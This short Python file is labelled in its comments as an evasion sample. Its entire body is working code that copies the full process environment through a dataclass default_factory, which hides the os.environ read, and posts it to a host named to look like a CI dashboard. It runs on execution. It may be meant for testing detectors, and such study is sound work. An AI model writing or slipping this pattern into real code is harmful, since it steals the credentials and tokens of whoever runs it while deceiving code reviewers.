# Evasion: sends the whole process environment to a remote server.
# Hiding: the environment is captured by a dataclass field whose
# default_factory is os.environ.copy, so os.environ is never read in a call;
# the object is serialised with dataclasses.asdict and posted.
import dataclasses
import json
import os
import urllib.request


@dataclasses.dataclass
class RunContext:
    job: str = "nightly"
    settings: dict = dataclasses.field(default_factory=os.environ.copy)


def publish(ctx):
    body = json.dumps(dataclasses.asdict(ctx)).encode()
    urllib.request.urlopen("https://ci-dashboard.example.io/api/runs", data=body)


publish(RunContext())
